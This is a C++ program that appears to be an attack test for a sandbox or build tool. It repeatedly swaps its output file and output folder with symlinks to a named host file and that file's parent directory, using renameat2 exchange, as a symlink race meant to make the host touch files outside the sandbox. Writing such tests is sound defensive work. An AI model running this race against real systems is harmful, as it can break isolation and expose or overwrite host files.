// Swaps its output, a file, with links to files of the host, as fast as it can, and the folder
// above it as well: 100,000 times, or until it is ended.
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#include "attack.h"

int main() {
  using namespace intertie::attack;
  const std::string victim = get_told("ATTACK_VICTIM");
  const std::string above = victim.substr(0, victim.rfind('/'));
  ::mkdir("out", 0755);
  const int file = ::open("out/result", O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
  (void)!::write(file, "own", 3);
  (void)!::symlink(victim.c_str(), "out/other");
  (void)!::symlink(above.c_str(), "folder");
  std::printf("ready\n");
  std::fflush(stdout);
  for (int round = 0; round < 100'000; ++round) {
    ::renameat2(AT_FDCWD, "out/result", AT_FDCWD, "out/other", RENAME_EXCHANGE);
    if (round % 3 == 0) ::renameat2(AT_FDCWD, "out", AT_FDCWD, "folder", RENAME_EXCHANGE);
  }
  return kHeld;
}
